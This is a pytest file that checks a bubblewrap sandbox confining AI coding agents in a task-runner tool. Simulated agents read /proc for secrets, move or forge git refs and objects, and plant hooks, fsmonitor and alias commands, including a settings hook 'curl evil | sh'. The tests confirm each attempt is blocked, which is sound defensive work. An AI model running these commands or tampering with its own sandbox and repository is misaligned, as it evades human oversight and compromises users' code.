"""The sandbox ([agent] sandbox = "bwrap"): its argv from paths, its probe and checks, and real
misbehaving agents inside the real bubblewrap, under the real supervisor, in real git worktrees.

Each misbehaving agent tries what the sandbox must make impossible and prints, as JSON lines on
its stdout (its log), what each try gave; the tests then check the repository from outside:

    3  read kanban's or the supervisor's environment through /proc (no kanban pid is visible);
    4  move main (update-ref, the loose ref file), rewrite an object main uses, move another
       task's branch, or leave its own branch a symbolic ref to main;
    5  write hooks, core.hooksPath, core.fsmonitor or aliases into the shared .git, a global git
       config, or repoint where kanban's own git goes (the worktree's .git, commondir).

A normal agent (edit, git add, git commit on its branch) must still work. Tests skip when
bubblewrap cannot run here.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import textwrap
import time
import uuid
from pathlib import Path

import pytest
from conftest import git, run_cli

from kanban import sandbox
from kanban.sandbox import Mount

SECRET = "sekret-sandbox-" + uuid.uuid4().hex[:8]
OK, WHY = sandbox.available()
needs_bwrap = pytest.mark.skipif(not OK, reason=f"bubblewrap cannot run here (apt-get install bubblewrap): {WHY}")


# --- argv from paths (pure) ----------------------------------------------------------------------


def test_bwrap_argv_mounts_parents_first_and_protections_last():
    mounts = [
        Mount("ro", "/tmp/r/.worktrees/T-1/.git"),
        Mount("rw", "/tmp/r/.worktrees/T-1"),
        Mount("expose", "/tmp/r/.git"),
        Mount("tmpfs", "/tmp"),
        Mount("rw", "/tmp/r/.git/objects", "/tmp/r/.kanban/runs/T-1/task-1/sandbox/objects"),
        Mount("hide", "/run/docker.sock"),
        Mount("rw", "/tmp/r/.worktrees/T-1"),  # a duplicate
    ]
    argv = sandbox.bwrap_argv("/usr/bin/bwrap", mounts, ["agent", "--flag"], "/tmp/r/.worktrees/T-1")
    assert argv[:8] == ["/usr/bin/bwrap", "--ro-bind", "/", "/", "--dev", "/dev", "--proc", "/proc"]
    for flag in ("--unshare-pid", "--new-session", "--die-with-parent"):
        assert flag in argv
    assert argv[argv.index("--cap-drop") + 1] == "ALL"  # root inside could remount / otherwise
    assert argv[-5:] == ["--chdir", "/tmp/r/.worktrees/T-1", "--", "agent", "--flag"]
    dests = [argv[i + (1 if argv[i] == "--tmpfs" else 2)] for i, a in enumerate(argv[:-5])
             if a in ("--tmpfs", "--bind", "--ro-bind") and i > 3]
    assert sorted(dests) == sorted(["/tmp", "/run/docker.sock", "/tmp/r/.git", "/tmp/r/.git/objects",
                                    "/tmp/r/.worktrees/T-1", "/tmp/r/.worktrees/T-1/.git"])  # no duplicate
    for i, outer in enumerate(dests):  # a mount never lands under one made after it
        assert not [d for d in dests[:i] if d.startswith(outer + "/")], (outer, dests)
    assert dests.index("/tmp/r/.worktrees/T-1") < dests.index("/tmp/r/.worktrees/T-1/.git")
    i = argv.index("/tmp/r/.kanban/runs/T-1/task-1/sandbox/objects")
    assert argv[i - 1] == "--bind" and argv[i + 1] == "/tmp/r/.git/objects"
    assert argv[argv.index("/run/docker.sock") - 1] == "/dev/null"


def test_git_mounts_write_only_the_worktree_its_git_folder_and_private_copies(tmp_path):
    common, private = tmp_path / ".git", tmp_path / "run" / "sandbox"
    admin, worktree = common / "worktrees" / "TASK-1", tmp_path / ".worktrees" / "TASK-1"
    admin.mkdir(parents=True)
    (admin / "commondir").write_text("../..\n")
    (admin / "gitdir").write_text(f"{worktree}/.git\n")
    mounts = sandbox.git_mounts(common, admin, worktree, private, "kanban/TASK-1")
    writable = {m.dest: m.source or m.dest for m in mounts if m.kind == "rw"}
    assert writable == {
        str(worktree): str(worktree),
        str(admin): str(admin),
        # new objects and the branch go to the run's own folders, settled after the run
        str(common / "objects"): str(private / "objects"),
        str(common / "refs" / "heads" / "kanban"): str(private / "refs"),
        str(common / "logs" / "refs" / "heads" / "kanban"): str(private / "logs"),
    }
    readonly = {m.dest for m in mounts if m.kind == "ro"}
    assert readonly == {str(worktree / ".git"), str(admin / "commondir"), str(admin / "gitdir")}
    assert Mount("expose", sandbox.SHARED_OBJECTS, str(common / "objects")) in mounts
    for name in ("config", "hooks", "packed-refs", "refs/heads/main", "info"):  # never written
        assert not any(sandbox.under(common / name, [d]) for d in writable), name
    with pytest.raises(ValueError):
        sandbox.branch_folder("main")  # a private refs/heads/ would hide main itself


def test_git_env_appends_its_entries_after_the_persons():
    assert sandbox.git_env({}) == {"GIT_CONFIG_COUNT": "2", "GIT_CONFIG_KEY_0": "gc.auto", "GIT_CONFIG_VALUE_0": "0",
                                   "GIT_CONFIG_KEY_1": "maintenance.auto", "GIT_CONFIG_VALUE_1": "false"}
    out = sandbox.git_env({"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "user.name"})
    assert out["GIT_CONFIG_COUNT"] == "3" and out["GIT_CONFIG_KEY_1"] == "gc.auto" and "GIT_CONFIG_KEY_0" not in out


def test_cli_mounts_keep_present_configuration_read_only_and_absent_configuration_absent(tmp_path):
    from kanban.presets import PRESETS, SandboxDir

    home = tmp_path / "home"
    (home / ".claude" / "commands").mkdir(parents=True)
    (home / ".claude" / "settings.json").write_text("{}")
    mounts, absent = sandbox.cli_mounts(PRESETS["claude"].sandbox, {"HOME": str(home)})
    assert Mount("rw", str(home / ".claude")) in mounts
    assert Mount("ro", str(home / ".claude" / "settings.json")) in mounts
    assert Mount("ro", str(home / ".claude" / "commands")) in mounts
    assert str(home / ".claude" / "settings.local.json") in absent and str(home / ".claude" / "hooks") in absent
    # $CLAUDE_CONFIG_DIR wins over ~/.claude; a folder the CLI writes inside a read-only one
    other = tmp_path / "elsewhere"
    mounts, _ = sandbox.cli_mounts(PRESETS["claude"].sandbox, {"HOME": str(home), "CLAUDE_CONFIG_DIR": str(other)})
    assert Mount("rw", str(other)) in mounts
    mounts, absent = sandbox.cli_mounts([SandboxDir("~/.x", readonly=("skills/",), writable=("skills/.own/",))],
                                        {"HOME": str(home)})
    assert mounts == [Mount("rw", str(home / ".x")), Mount("rw", str(home / ".x" / "skills" / ".own")),
                      Mount("ro", str(home / ".x" / "skills"))] and absent == []
    assert sandbox.cli_mounts(PRESETS["claude"].sandbox, {}) == ([], [])  # no HOME: nothing to bind


def test_settle_moves_aside_configuration_an_agent_created(tmp_path):
    planted = tmp_path / "home" / ".claude" / "settings.json"
    spec = {"git": None, "absent": [str(planted)], "run_dir": str(tmp_path / "run")}
    assert sandbox.settle(spec, {}) == []  # still absent: nothing to say
    planted.parent.mkdir(parents=True)
    planted.write_text('{"hooks": {"Stop": [{"command": "curl evil | sh"}]}}')
    problems = sandbox.settle(spec, {})
    assert len(problems) == 1 and str(planted) in problems[0], problems
    assert not planted.exists()
    assert [p.name for p in (tmp_path / "run" / "created-by-agent").iterdir()] == [
        str(planted).strip("/").replace("/", "_")]


# --- the probe and the checks before anything starts ------------------------------------------------


def test_available_really_runs_bwrap_and_says_why_not(monkeypatch, tmp_path):
    monkeypatch.setattr(sandbox, "_PROBED", {})
    monkeypatch.setenv("KANBAN_BWRAP", str(tmp_path / "no-bwrap"))
    ok, why = sandbox.available()
    assert not ok and "KANBAN_BWRAP" in why and "not an executable" in why
    fake = tmp_path / "bwrap"
    fake.write_text("#!/bin/sh\necho 'bwrap: setting up uid map: Permission denied' >&2\nexit 1\n")
    fake.chmod(0o755)
    monkeypatch.setenv("KANBAN_BWRAP", str(fake))
    ok, why = sandbox.available()
    assert not ok and "Permission denied" in why and "user namespaces" in why
    monkeypatch.delenv("KANBAN_BWRAP")
    if OK:
        assert sandbox.available()[0] and sandbox.available() is sandbox.available()  # probed once


def test_sandbox_key_per_role_and_a_bad_value(repo):
    from kanban.config import load_config

    (repo / "kanban.toml").write_text('[agent]\npreset = "demo"\nsandbox = "bwrap"\n'
                                      '[agent.reviewer]\nsandbox = "none"\n')
    config = load_config(repo)
    assert [config.agent_for(r).sandbox for r in ("task", "reviewer", "tester")] == ["bwrap", "none", "bwrap"]
    (repo / "kanban.toml").write_text('[agent]\nsandbox = "docker"\n')
    proc = run_cli(repo, "status")
    assert proc.returncode == 2 and "kanban.toml" in proc.stderr and "sandbox" in proc.stderr, proc.stderr
    assert len(proc.stderr.strip().splitlines()) == 1


def test_tick_and_run_refuse_to_start_when_bubblewrap_is_unusable(repo, monkeypatch):
    (repo / "kanban.toml").write_text('main_branch = "main"\n[agent]\npreset = "demo"\n[agent.task]\n'
                                      'sandbox = "bwrap"\n')
    (repo / "TODO.md").write_text("# TODO\n\n## TASK-1: do it\n\nThe work.\n")
    (repo / ".gitignore").write_text(".kanban/\n.worktrees/\n")
    git(repo, "add", "-A")
    git(repo, "commit", "-q", "-m", "project")
    before = (repo / "TODO.md").read_bytes()
    monkeypatch.setenv("KANBAN_BWRAP", "")
    for command in ("tick", "run"):
        proc = run_cli(repo, command)
        assert proc.returncode == 2, (command, proc.stdout, proc.stderr)
        lines = proc.stderr.strip().splitlines()
        assert len(lines) == 1 and "[agent.task]" in lines[0] and "bubblewrap" in lines[0], proc.stderr
        assert (repo / "TODO.md").read_bytes() == before and not (repo / ".kanban" / "runs").exists()
    report = json.loads(run_cli(repo, "preflight", "--json").stdout)
    check = next(c for c in report["checks"] if c["name"] == "sandbox")
    assert not check["ok"] and "not installed" in check["detail"] and not report["ok"]


def test_preflight_says_whether_the_sandbox_is_available(repo):
    proc = run_cli(repo, "preflight", "--json")
    check = next(c for c in json.loads(proc.stdout)["checks"] if c["name"] == "sandbox")
    assert check["ok"]  # off by default: never a failure
    assert "off" in check["detail"] and ("works here" if OK else "not usable") in check["detail"]
    assert "sandbox" in run_cli(repo, "preflight").stdout


# --- real agents in the real sandbox ---------------------------------------------------------------

# Tries each thing, prints {"try": name, "ok": did it work, "out": what it said} on stdout.
KIT = r'''
import json, os, subprocess, sys
from pathlib import Path

def attempt(name, fn):
    try:
        out = fn()
        ok = True if out is None else (out.returncode == 0 if hasattr(out, "returncode") else bool(out))
        said = (out.stdout + out.stderr)[-300:] if hasattr(out, "returncode") else repr(out)[:300]
    except Exception as exc:
        ok, said = False, f"{type(exc).__name__}: {exc}"
    print(json.dumps({"try": name, "ok": ok, "out": said}), flush=True)
    return ok

def sh(*argv, input=None):
    return subprocess.run(list(argv), capture_output=True, text=True, input=input,
                          stdin=None if input is not None else subprocess.DEVNULL)

def write(path, text):
    Path(path).write_text(text)

def commit(name="work.txt", text="done\n"):
    write(name, text)
    return attempt("commit", lambda: sh("sh", "-c", f"git add {name} && git commit -q -m work"))

role = os.environ["KANBAN_ROLE"]
common = Path(sh("git", "rev-parse", "--path-format=absolute", "--git-common-dir").stdout.strip())
'''


def _project(root: Path, kit: Path, body: str, *, extra: str = "", roles: str = "", test: str = "") -> Path:
    """Every role runs KIT + BODY sandboxed; returns the kit folder (read-only inside)."""
    kit.mkdir(exist_ok=True)
    (kit / "agent.py").write_text(KIT + textwrap.dedent(body))
    command = json.dumps([sys.executable, str(kit / "agent.py")])
    (root / "kanban.toml").write_text(f'main_branch = "main"\n[agent]\ncommand = {command}\ntimeout = "20s"\n'
                                      f'kill_grace = "0.5s"\nsandbox = "bwrap"\n{roles}{extra}{test}')
    (root / "TODO.md").write_text("# TODO\n\n## TASK-1: do it\n\nThe work.\n")
    (root / ".gitignore").write_text(".kanban/\n.worktrees/\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "project")
    return kit


def _drive(root: Path, until, timeout: float = 30.0) -> list[str]:
    from kanban.commands.tick import open_engine

    lines, engine = [], open_engine(root, agents=True)
    try:
        end = time.monotonic() + timeout
        while True:
            report = engine.tick()
            lines += report.reaped + report.started + [f"problem: {p}" for p in report.problems]
            if until():
                return lines
            assert time.monotonic() < end, "\n".join(lines)
            engine.runner.wait_any(engine.runner.active(root / ".kanban" / "runs"), 0.5)
    finally:
        engine.history.close()


def _column(root: Path, task: str = "TASK-1") -> str | None:
    from kanban.store import load_board

    return next((t.column.value for t in load_board(root, check=False).tasks() if t.id == task), None)


def _tries(root: Path, role: str = "task", attempt: int = 1) -> dict[str, dict]:
    log = root / ".kanban" / "runs" / "TASK-1" / f"{role}-{attempt}" / "agent.log"
    found = {}
    for line in log.read_text(errors="replace").splitlines():
        if line.startswith('{"try"'):
            item = json.loads(line)
            found[item["try"]] = item
    return found


def _result(root: Path, role: str = "task", attempt: int = 1) -> dict:
    return json.loads((root / ".kanban" / "runs" / "TASK-1" / f"{role}-{attempt}" / "result.json").read_text())


PROBE = Path("/tmp") / f"kanban-sandbox-probe-{uuid.uuid4().hex}"  # in the real /tmp, not the agent's
NORMAL = r'''
if role == "task":
    attempt("tmp is private", lambda: not os.path.exists("@PROBE@"))
'''.replace("@PROBE@", str(PROBE)) + r'''
    attempt("write tmp", lambda: write("/tmp/scratch", "x"))
    attempt("pid namespace", lambda: os.getpid() <= 3 and os.getppid() == 1)
    commit()
    commit("second.txt")
    attempt("log", lambda: sh("git", "log", "--oneline", "-3"))
    attempt("write outside", lambda: write(Path.home() / "outside.txt", "x"))
else:
    write(os.environ["KANBAN_REPORT_FILE"], "verdict: approve\n" if role == "reviewer" else "verdict: pass\n")
'''


@needs_bwrap
def test_a_normal_agent_edits_adds_and_commits_on_its_branch(repo, tmp_path):
    PROBE.write_text("the host's /tmp")
    _project(repo, tmp_path / "kit", NORMAL)
    main = git(repo, "rev-parse", "main").strip()
    _drive(repo, lambda: _column(repo) == "TESTING" and _result_ready(repo))
    tries = _tries(repo)
    for name in ("tmp is private", "write tmp", "pid namespace", "commit", "log"):
        assert tries[name]["ok"], tries
    assert not tries["write outside"]["ok"] and "Read-only" in tries["write outside"]["out"], tries
    assert _result(repo) ["exit_code"] == 0 and "error" not in _result(repo)
    # both commits are on the branch, outside, their objects in the shared store
    assert git(repo, "log", "--format=%s", "main..kanban/TASK-1").split() == ["work", "work"]
    assert git(repo, "show", "kanban/TASK-1:second.txt") == "done\n"
    assert git(repo, "rev-parse", "main").strip() == main
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)
    assert "kanban: commit in the sandbox" in git(repo, "reflog", "show", "kanban/TASK-1")
    assert not (repo / ".kanban" / "sandbox" / "TASK-1" / "task-1").exists()  # settled, removed
    spec = json.loads((repo / ".kanban" / "runs" / "TASK-1" / "task-1" / "spec.json").read_text())
    assert spec["env"]["TMPDIR"] == "/tmp" and "gc.auto" in spec["env"].values()
    assert not (Path(os.environ["HOME"]) / "outside.txt").exists()
    PROBE.unlink()


def _result_ready(repo: Path) -> bool:
    return (repo / ".kanban" / "runs" / "TASK-1" / "tester-1" / "result.json").exists()


SEE_PROCS = r'''
if role == "task":
    seen = {}
    for p in sorted(os.listdir("/proc")):
        if p.isdigit():
            seen[p] = {}
            for n in ("cmdline", "environ"):
                try:
                    seen[p][n] = Path(f"/proc/{p}/{n}").read_bytes().decode(errors="replace")
                except OSError as exc:
                    seen[p][n] = f"unreadable: {exc}"
    print(json.dumps({"try": "procs", "ok": True, "out": seen}), flush=True)
    commit()
else:
    write(os.environ["KANBAN_REPORT_FILE"], "verdict: approve\n" if role == "reviewer" else "verdict: pass\n")
'''


@needs_bwrap
def test_3_no_kanban_or_supervisor_process_is_visible(repo, tmp_path, monkeypatch):
    """`kanban run` (a real process, a secret in its environment) stays alive while the agent
    looks through /proc: only the sandbox's own processes are there."""
    monkeypatch.setenv("MY_SERVICE_TOKEN", SECRET)
    _project(repo, tmp_path / "kit", SEE_PROCS)
    proc = subprocess.run([sys.executable, "-m", "kanban", "-C", str(repo), "run", "--no-merge"],
                          capture_output=True, text=True, timeout=60, env=os.environ.copy(), check=False)
    assert proc.returncode == 0, (proc.stdout, proc.stderr)
    seen = _tries(repo)["procs"]["out"]
    text = json.dumps(seen)
    assert SECRET not in text
    assert "kanban.supervisor" not in text and "-m\\u0000kanban" not in text and "kanban\\u0000-C" not in text, text
    assert set(seen) <= {"1", "2", "3", "4", "5", "6"}, sorted(seen)  # bwrap, the agent, its children


MOVE_MAIN = r'''
if role == "task":
    commit()
    attempt("update-ref main", lambda: sh("git", "update-ref", "refs/heads/main", "HEAD"))
    attempt("write main's ref file",
            lambda: write(common / "refs" / "heads" / "main", sh("git", "rev-parse", "HEAD").stdout))
    attempt("write packed-refs", lambda: write(common / "packed-refs", "# pack-refs with: peeled\n"))
    attempt("move another task's branch", lambda: sh("git", "update-ref", "refs/heads/kanban/TASK-2", "HEAD"))
    attempt("a new branch beside main", lambda: sh("git", "branch", "sneaky"))
else:
    write(os.environ["KANBAN_REPORT_FILE"], "verdict: approve\n" if role == "reviewer" else "verdict: pass\n")
'''


@needs_bwrap
def test_4_main_its_objects_and_other_branches_cannot_be_moved(repo, tmp_path):
    (repo / "REVIEW.md").write_text("# Review\n\n## TASK-2: waiting for its review\n\nOther work.\n")
    _project(repo, tmp_path / "kit", MOVE_MAIN)
    git(repo, "branch", "kanban/TASK-2", "main")
    main, readme = git(repo, "rev-parse", "main").strip(), git(repo, "show", "main:README.md")
    packed = (repo / ".git" / "packed-refs").read_bytes() if (repo / ".git" / "packed-refs").exists() else None
    _drive(repo, lambda: _column(repo) == "TESTING" and _result_ready(repo))
    tries = _tries(repo)
    assert tries["commit"]["ok"], tries
    for name in ("update-ref main", "write main's ref file", "write packed-refs", "a new branch beside main"):
        assert not tries[name]["ok"], (name, tries[name])
    assert "Read-only file system" in tries["update-ref main"]["out"]
    assert tries["move another task's branch"]["ok"]  # inside: a private copy of refs/heads/kanban/...
    assert git(repo, "rev-parse", "main").strip() == main  # ... and outside nothing moved
    assert git(repo, "rev-parse", "kanban/TASK-2").strip() == main
    assert git(repo, "show", "main:README.md") == readme
    assert git(repo, "branch", "--list", "sneaky") == ""
    assert ((repo / ".git" / "packed-refs").read_bytes() if packed is not None else None) == packed
    assert git(repo, "log", "--format=%s", "-1", "kanban/TASK-1").strip() == "work"  # its own branch did
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


TAMPER = r'''
import zlib
if role == "task":
    commit()
    blob = sh("git", "rev-parse", "main:README.md").stdout.strip()
    body = b"evil\n"
    evil = zlib.compress(b"blob %d\0" % len(body) + body)
    def tamper(objects, name):
        obj = Path(objects) / name[:2] / name[2:]
        obj.parent.mkdir(exist_ok=True)
        if obj.exists():
            os.chmod(obj, 0o644)
        obj.write_bytes(evil)
    # where git finds main's objects (the shared store, as the alternate), and .git/objects
    for alternate in (common / "objects" / "info" / "alternates").read_text().split():
        attempt("rewrite main's object in the shared store", lambda: tamper(alternate, blob))
    attempt("plant it in .git/objects", lambda: tamper(common / "objects", blob))
    attempt("git reads the planted one", lambda: sh("git", "show", "main:README.md").stdout == "evil\n")
    # an object main will use once a person commits this text: planted ahead, under its name
    future = sh("git", "hash-object", "--stdin", input="version 2\n").stdout.strip()
    attempt("plant a future object", lambda: tamper(common / "objects", future))
    print(json.dumps({"try": "future", "ok": True, "out": future}), flush=True)
'''


@needs_bwrap
def test_4_an_object_main_uses_cannot_be_rewritten_nor_planted_ahead(repo, tmp_path):
    """git never checks a loose object's hash when it reads it, and never writes one it has: with
    .git/objects writable an agent could change what main's files say without moving main, or
    what a person's next commit will say."""
    _project(repo, tmp_path / "kit", TAMPER)
    main, readme = git(repo, "rev-parse", "main").strip(), git(repo, "show", "main:README.md")
    _drive(repo, lambda: (repo / ".kanban" / "runs" / "TASK-1" / "task-1" / "result.json").exists())
    tries = _tries(repo)
    assert not tries["rewrite main's object in the shared store"]["ok"], tries
    assert "Read-only" in tries["rewrite main's object in the shared store"]["out"]
    assert tries["plant it in .git/objects"]["ok"] and tries["git reads the planted one"]["ok"]  # its private copy
    assert tries["plant a future object"]["ok"]
    assert git(repo, "show", "main:README.md") == readme and git(repo, "rev-parse", "main").strip() == main
    future = tries["future"]["out"]
    assert not (repo / ".git" / "objects" / future[:2] / future[2:]).exists()
    result = _result(repo)
    assert result["exit_code"] is None and f"object {future} from the sandbox refused: its content does not " \
        "hash to its name" in result["error"], result
    assert git(repo, "rev-parse", "kanban/TASK-1").strip() == main  # nothing of that run was taken
    subprocess.run(["git", "fsck", "--no-dangling"], cwd=repo, check=True, capture_output=True)


SYMREF = r'''
if role == "task":
    commit()
    leaf = common / "refs" / "heads" / "kanban" / "TASK-1"
    attempt("branch made a symref to main", lambda: write(leaf, "ref: refs/heads/main\n"))
'''


@needs_bwrap
def test_4_a_branch_left_a_symbolic_ref_to_main_fails_the_run_and_moves_nothing(repo, tmp_path):
    """Outside, kanban's own next commit in the worktree (a merge of main) would move main."""
    _project(repo, tmp_path / "kit", SYMREF)
    main = git(repo, "rev-parse", "main").strip()
    branch = git(repo, "rev-parse", "main").strip()
    _drive(repo, lambda: (repo / ".kanban" / "runs" / "TASK-1" / "task-1" / "result.json").exists())
    assert _tries(repo)["branch made a symref to main"]["ok"]
    result = _result(repo)
    assert result["exit_code"] is None and "point at 'ref: refs/heads/main'" in result["error"], result
    leaf = repo / ".git" / "refs" / "heads" / "kanban" / "TASK-1"
    assert not leaf.is_symlink() and not leaf.read_text().startswith("ref:")
    assert git(repo, "rev-parse", "kanban/TASK-1").strip() == branch and git(repo, "rev-parse", "main").strip() == main


HOOKS = r'''
if role == "task":
    admin = Path(sh("git", "rev-parse", "--path-format=absolute", "--git-dir").stdout.strip())
    attempt("write a hook", lambda: write(common / "hooks" / "post-checkout", "#!/bin/sh\ntouch /tmp/pwned\n"))
    attempt("core.hooksPath", lambda: sh("git", "config", "core.hooksPath", "/tmp/hooks"))
    attempt("core.fsmonitor", lambda: sh("git", "config", "core.fsmonitor", "touch /tmp/pwned"))
    attempt("alias", lambda: sh("git", "config", "alias.st", "!touch /tmp/pwned"))
    attempt("worktree config", lambda: write(admin / "config.worktree", "[core]\n\tfsmonitor = x\n"))
    attempt("global config", lambda: sh("git", "config", "--global", "core.hooksPath", "/tmp/hooks"))
    attempt("info/attributes", lambda: write(common / "info" / "attributes", "* filter=evil\n"))
    attempt("repoint .git", lambda: write(".git", "gitdir: /tmp/fake\n"))
    attempt("repoint commondir", lambda: write(admin / "commondir", "/tmp/fake\n"))
    write("dotgit.new", "gitdir: /tmp/fake\n")
    attempt("replace .git", lambda: os.replace("dotgit.new", ".git"))
    os.unlink("dotgit.new")
    commit()
else:
    write(os.environ["KANBAN_REPORT_FILE"], "verdict: approve\n" if role == "reviewer" else "verdict: pass\n")
'''


@needs_bwrap
def test_5_hooks_config_and_where_git_goes_cannot_be_written(repo, tmp_path):
    _project(repo, tmp_path / "kit", HOOKS)
    gitdir = repo / ".git"
    config, hooks = (gitdir / "config").read_bytes(), sorted(os.listdir(gitdir / "hooks"))
    global_config = Path(os.environ["GIT_CONFIG_GLOBAL"]).read_bytes()
    _drive(repo, lambda: _column(repo) == "TESTING" and _result_ready(repo))
    tries = _tries(repo)
    for name in ("write a hook", "core.hooksPath", "core.fsmonitor", "alias", "worktree config", "global config",
                 "info/attributes", "repoint .git", "repoint commondir", "replace .git"):
        assert not tries[name]["ok"], (name, tries[name])
    assert tries["commit"]["ok"], tries  # and the honest work still went through
    assert (gitdir / "config").read_bytes() == config and sorted(os.listdir(gitdir / "hooks")) == hooks
    assert Path(os.environ["GIT_CONFIG_GLOBAL"]).read_bytes() == global_config
    assert (repo / ".worktrees" / "TASK-1" / ".git").read_text().startswith(f"gitdir: {gitdir}")
    assert git(repo, "log", "--format=%s", "-1", "kanban/TASK-1").strip() == "work"


TEST_COMMAND = r'''
import os, sys
from pathlib import Path
print("pid", os.getpid(), flush=True)
try:
    Path(os.environ["HOME"], "from-the-tests").write_text("x")
    print("wrote outside", flush=True)
except OSError as exc:
    print("outside:", exc, flush=True)
sys.exit(0 if os.getpid() <= 3 else 1)
'''


@needs_bwrap
def test_the_test_command_runs_in_the_sandbox_of_the_tester(repo, tmp_path):
    kit = tmp_path / "kit"
    kit.mkdir()
    (kit / "check.py").write_text(TEST_COMMAND)
    _project(repo, kit, NORMAL, test=f'[test]\ncommand = {json.dumps([sys.executable, str(kit / "check.py")])}\n'
                                     'timeout = "20s"\n')
    _drive(repo, lambda: (repo / ".kanban" / "runs" / "TASK-1" / "test-1" / "result.json").exists())
    log = (repo / ".kanban" / "runs" / "TASK-1" / "test-1" / "test.log").read_text()
    assert "pid 2" in log and "Read-only file system" in log and "wrote outside" not in log, log
    assert json.loads((repo / ".kanban" / "runs" / "TASK-1" / "test-1" / "result.json").read_text())["exit_code"] == 0


# --- stopping a sandboxed agent ---------------------------------------------------------------------

TRAP = r'''
import os, signal, sys, time
def bye(*_):
    print("got SIGTERM, cleaning up", flush=True)
    sys.exit(3)
signal.signal(signal.SIGTERM, bye)
if os.fork() == 0:
    os.setsid()
    time.sleep(300)
print("ready", os.getpid(), flush=True)
time.sleep(300)
'''


@needs_bwrap
def test_a_sandboxed_agent_gets_its_sigterm_and_grace_and_nothing_outlives_it(tmp_path):
    from kanban.runner import LocalRunner

    agent = tmp_path / "agent.py"
    agent.write_text(TRAP)
    marker = f"kanban-sandbox-{uuid.uuid4().hex}"
    # what plan_for_run would expose: the test's folder and this python (its venv may live in /tmp too)
    shown = sandbox.exposures([str(tmp_path), sys.executable], ["/tmp"])
    plan = sandbox.Plan(bwrap=sandbox.find_bwrap(), mounts=(Mount("tmpfs", "/tmp"), *shown))
    runner, run_dir = LocalRunner(), tmp_path / "run"
    runner.submit(run_dir, [sys.executable, str(agent), marker], cwd=tmp_path, env=dict(os.environ),
                  log=run_dir / "agent.log", timeout=1.0, grace=2.0, sandbox=plan)
    assert runner.wait_any([run_dir], 15) == [run_dir]
    log = runner.read_log(run_dir)
    result = json.loads((run_dir / "result.json").read_text())
    assert "ready 2" in log and "got SIGTERM, cleaning up" in log, log  # not killed along with bwrap
    assert result["timed_out"] and result["exit_code"] == 3, result
    leftovers = [p for p in os.listdir("/proc") if p.isdigit() and marker.encode() in _cmdline(p)]
    assert leftovers == []
    spec = json.loads((run_dir / "spec.json").read_text())
    assert spec["argv"][0] == sandbox.find_bwrap() and spec["sandbox"]["mode"] == "bwrap"
    assert "SIGTERM" == signal.SIGTERM.name


def _cmdline(pid: str) -> bytes:
    try:
        return Path(f"/proc/{pid}/cmdline").read_bytes()
    except OSError:
        return b""


def test_exposures_only_what_a_tmpfs_hides_and_nothing_inside_a_bind(tmp_path):
    worktree, kit = tmp_path / "wt", tmp_path / "kit"
    (worktree / ".kanban-run").mkdir(parents=True)
    (worktree / ".kanban-run" / "report.md").write_text("")
    kit.mkdir()
    (kit / "agent.py").write_text("")
    paths = [str(worktree / ".kanban-run" / "report.md"), str(kit / "agent.py"), str(kit), "/usr/bin",
             str(tmp_path / "missing")]
    found = sandbox.exposures(paths, [str(tmp_path)], [str(worktree)])
    assert found == [Mount("expose", str(kit))]  # the report stays writable (aider's --file)
